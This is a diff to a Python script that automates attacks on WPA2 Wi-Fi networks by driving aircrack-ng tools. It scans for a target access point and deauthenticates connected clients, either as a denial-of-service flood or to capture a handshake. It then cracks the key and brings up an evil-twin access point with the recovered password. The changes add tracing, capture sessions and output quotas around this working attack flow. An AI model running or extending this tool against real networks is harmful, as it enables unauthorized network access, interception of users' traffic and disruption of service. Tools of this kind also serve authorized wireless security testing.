@@ -7,7 +7,6 @@ __version__ = "0.1.0"
 
 
 from enum import Enum
-import concurrent.futures
 import time
 import logging
 from types import NoneType
@@ -26,19 +25,28 @@ class AttackType(Enum):
 LOGGER = logging.getLogger('Attacker')
     
 class WPA2Attacker():
-    def __init__(self, loglevel=0) -> NoneType:
+    def __init__(self, loglevel=0, output_dir=paircrack.Airodump.folderpath, quota_mb=500) -> NoneType:
         """Initializes required classes from paircrack package
 
         Parameters
         ----------
         loglevel : int, optional
             Verbosity level, by default 0
+        output_dir : str, optional
+            Directory where a folder for this run's output files is
+            created, by default paircrack.Airodump.folderpath
+        quota_mb : int, optional
+            Maximum size of output files of all runs in MB, oldest are
+            deleted first. By default 500
         """        
+        self.artifacts = paircrack.ArtifactManager(output_dir, quota_mb)
         self.airmon = paircrack.Airmon(loglevel)
-        self.airodump = paircrack.Airodump(loglevel)
+        self.airodump = paircrack.Airodump(loglevel, self.artifacts)
         self.aireplay = paircrack.Aireplay(loglevel)
         self.aircrack = paircrack.Aircrack(loglevel)
-        self.hostetd = paircrack.Hostetd(loglevel)
+        self.hostetd = paircrack.Hostetd(loglevel, self.artifacts)
+        self.scandb = paircrack.ScanDatabase()
+        self.tracer = paircrack.tracer
     
     def automate_attack(self, attacktype : AttackType, ap_query : str):
         """Automtates an attack on a specified AP
@@ -57,8 +65,26 @@ class WPA2Attacker():
 
         LOGGER.info(f'Running automated WPA2 attack: {attacktype.name}')
 
-        with self.airmon as mon:
+        # Monitor mode is set up once for the whole attack. The phases
+        # below re-enter the same session without restarting it.
+        with self.tracer.span('attack', attack_type=attacktype.name):
+            with self.airmon:
+                return self._run_attack(attacktype, ap_query)
+
+
+    def _run_attack(self, attacktype : AttackType, ap_query : str):
+        """Runs the phases of automate_attack in monitor mode
+
+        Parameters
+        ----------
+        attacktype : AttackType
+            Type of attack to perform
+        ap_query : str
+            Either BSSID or ESSID of AP to target
+        """
+        with self.airmon as mon, self.tracer.span('phase.capture_ap') as span:
             ap_data = self._capture_ap(mon, ap_query)
+            span.attrs['found'] = ap_data is not None
 
         if ap_data is None:
             LOGGER.info('Target AP not found. Exiting...')
@@ -69,8 +95,10 @@ class WPA2Attacker():
             self.airmon.channel = ap_channel
         
 
-        with self.airmon as mon:
-            client_bssids, hs_fp = self._capture_clients(mon, ap_bssid)
+        with self.airmon as mon, self.airodump.session(mon.interface, ap_channel, ap_bssid, db=self.scandb) as dump:
+            with self.tracer.span('phase.capture_clients') as span:
+                client_bssids = self._capture_clients(dump, ap_bssid)
+                span.attrs['clients'] = len(client_bssids)
 
             if not client_bssids:
                 LOGGER.info(f'No connected clients found. Exiting...')
@@ -80,18 +108,28 @@ class WPA2Attacker():
                 # check if hs in hs_fp
         
             if attacktype == AttackType.AP_DOS:
-                self._attack_dos(mon, ap_bssid, client_bssids)
+                with self.tracer.span('phase.attack_dos'):
+                    self._attack_dos(mon, ap_bssid, client_bssids)
 
 
             elif attacktype == AttackType.EVIL_TWIN:
                 client_bssid = client_bssids[0]
                 
-                while not self.aircrack.check_handshake(ap_bssid, hs_fp):
-                    client_fp, hs_fp = self._capture_handshake(mon, ap_bssid, client_bssid)
+                hs_fp = dump.capfile
+                with self.tracer.span('phase.capture_handshake') as span:
+                    span.attrs['attempts'] = 0
+                    # may already be captured while capturing clients
+                    captured = self.aircrack.check_handshake(ap_bssid, hs_fp)
+                    while not captured:
+                        span.attrs['attempts'] += 1
+                        captured = self._capture_handshake(mon, dump, ap_bssid, client_bssid)
 
                 LOGGER.info('Handshake captured!')
+                dump.close()
                 
-                password = self._crack_wpa2key(ap_bssid, hs_fp)
+                with self.tracer.span('phase.crack') as span:
+                    password = self._crack_wpa2key(ap_bssid, hs_fp)
+                    span.attrs['cracked'] = password is not None
                 
                 if password is None:
                     LOGGER.info(f'Password not cracked. Exiting...')
@@ -102,7 +140,7 @@ class WPA2Attacker():
                 et_if = self.airmon.id_interfaces()[1]
                 self.hostetd.create_conf(et_if, ap_name, ap_channel, password)
                 
-                with self.hostetd as etd:
+                with self.tracer.span('phase.evil_twin'), self.hostetd as etd:
                     max_attempts = 10
                     for a in range(max_attempts):
                         LOGGER.info(f'Deauthenticating client to force reconnection. Attempt {a+1}/{max_attempts}...')
@@ -163,39 +201,30 @@ class WPA2Attacker():
             Tuple of AP data (BSSID, ESSID, Channel) if found.
             Otherwise None
         """        
-        for timer in range(2,11,4):
-            LOGGER.info(f'Searching for target AP for {timer} seconds...')
-            aps_file = self.airodump.capture_aps(mon.interface, proc_timeout=timer)
-            ap_data = self._get_ap_from_capture(ap_query, aps_file)
-            if ap_data is not None: break
-                
-        return ap_data
+        timeout = 18
+        LOGGER.info(f'Searching for target AP for up to {timeout} seconds...')
+        return self.airodump.search_ap(mon.interface, ap_query, proc_timeout=timeout, db=self.scandb)
 
 
-    def _capture_clients(self, mon : paircrack.Airmon, ap_bssid : str) -> tuple:
+    def _capture_clients(self, dump : paircrack.CaptureSession, ap_bssid : str) -> list:
         """Captures clients and potential handshakes
 
         Parameters
         ----------
-        mon : paircrack.Airmon
-            Object running the monitoring interface
+        dump : paircrack.CaptureSession
+            Capture session running on the channel of target AP
         ap_bssid : str
             BSSID of target AP
 
         Returns
         -------
-        tuple
-            First element is list of client BSSIDs and second is 
-            handshake filepath 
+        list
+            List of client BSSIDs. Potential handshakes are written to
+            the cap file of the capture session
         """        
-        for timer in range(10,21,5):
-            LOGGER.info(f'Capturing connected clients for {timer} seconds...')
-            client_fp, hs_fp = self.airodump.capture_clients(mon.interface, 
-                                                            ap_bssid, mon.channel, proc_timeout=timer)
-            client_bssids = self.airodump.parse_clients_netxml(client_fp, ap_bssid)
-            if client_bssids: break
-                
-        return client_bssids, hs_fp
+        timeout = 45
+        LOGGER.info(f'Capturing connected clients for up to {timeout} seconds...')
+        return dump.wait_for_clients(ap_bssid, timeout=timeout)
 
 
     def _attack_dos(self, mon : paircrack.Airmon, ap_bssid : str, client_bssids : list, seconds=45) -> NoneType:
@@ -215,44 +244,45 @@ class WPA2Attacker():
         start = time.time()
         end = start
         while end - start < seconds:
-            for cb in client_bssids:
-                LOGGER.info(f'DoS-ing {cb}')
-                self.aireplay.deauth(mon.interface, ap_bssid, cb)
-                end = time.time()
+            LOGGER.info(f'DoS-ing {", ".join(client_bssids)}')
+            self.aireplay.deauth_many(mon.interface, ap_bssid, client_bssids)
+            end = time.time()
         return
 
 
-    def _capture_handshake(self, mon : paircrack.Airmon, ap_bssid : str, client_bssid : str) -> tuple:
+    def _capture_handshake(self, mon : paircrack.Airmon, dump : paircrack.CaptureSession, ap_bssid : str, client_bssid : str, seconds=20) -> bool:
         """Deauthenticates client and captures handshake upon reconnect
 
         Parameters
         ----------
         mon : paircrack.Airmon
             Object running the monitoring interface
+        dump : paircrack.CaptureSession
+            Capture session running on the channel of target AP
         ap_bssid : str
             BSSID of target AP
-        client_bssids : list
-            Target list of client str BSSIDs to target
         client_bssid : str
             BSSID of target client
+        seconds : int, optional
+            Time to wait for the handshake after deauthentication, 
+            by default 20
 
         Returns
         -------
-        tuple
-            First element is filepath to client xml capture, second is 
-            filepath to hanshake capture file
+        bool
+            True if handshake is captured. Otherwise False
         """        
         LOGGER.info('Attempting to capture WPA2 handshake')
         
-        with concurrent.futures.ThreadPoolExecutor() as executor:
-            fut_dump = executor.submit(self.airodump.capture_clients, 
-                                        mon.interface, ap_bssid, 
-                                        mon.channel, proc_timeout=20)
-            fut_deauth = executor.submit(self.aireplay.deauth, 
-                                            mon.interface, ap_bssid, client_bssid)
-
-            client_fp, hs_fp = fut_dump.result()
-        return client_fp, hs_fp
+        self.aireplay.deauth(mon.interface, ap_bssid, client_bssid)
+        
+        start = time.time()
+        while time.time() - start < seconds:
+            dump.update()   # keeps the artifact quota while the cap file grows
+            if self.aircrack.check_handshake(ap_bssid, dump.capfile):
+                return True
+            time.sleep(1)
+        return False
 
 
     def _crack_wpa2key(self, ap_bssid : str, hs_fp : str) -> str:
@@ -274,20 +304,12 @@ class WPA2Attacker():
         result = self.aircrack.crack_wpa2(ap_bssid, hs_fp)
         return result
 
-        
-    def _get_ap_from_capture(self, ap_query, aps_file):
-        aps = self.airodump.parse_aps_netxml(aps_file)
-        for ap in aps:
-            if ap[1] is not None:
-                if ap_query in ap[0] or ap_query in ap[1]:
-                    return ap
-        
-        return None  # ap not among captured aps
-            
+
 
 
 def main(args):
     
+    logging.basicConfig(level=logging.DEBUG)
 
     if args.verbose == 0:
         LOGGER.setLevel(logging.INFO)
@@ -299,8 +321,16 @@ def main(args):
         params = yaml.load(ymlfile, Loader=yaml.loader.SafeLoader)
     
     
-    attacker = WPA2Attacker(args.verbose)
-    attacker.automate_attack(AttackType(params['attack_type']), params['ap_ssid'].upper())
+    attacker = WPA2Attacker(args.verbose, 
+                            params.get('output_dir', paircrack.Airodump.folderpath), 
+                            params.get('quota_mb', 500))
+    try:
+        attacker.automate_attack(AttackType(params['attack_type']), params['ap_ssid'].upper())
+    finally:
+        for name, stats in attacker.tracer.summary().items():
+            LOGGER.debug(f'{name}: {stats["count"]} spans, {stats["total_s"]:.2f}s total, {stats["max_s"]:.2f}s max')
+        if args.metrics:
+            attacker.tracer.export(args.metrics)
 
 
 if __name__ == "__main__":
@@ -319,6 +349,11 @@ if __name__ == "__main__":
         default=0,
         help="Verbosity (-v or -vv)")
 
+    # Optional JSON lines file timing spans are appended to
+    parser.add_argument(
+        "--metrics",
+        help="Append timing of phases and tool calls to this JSON lines file")
+
     # Specify output of "--version"
     parser.add_argument(
         "--version",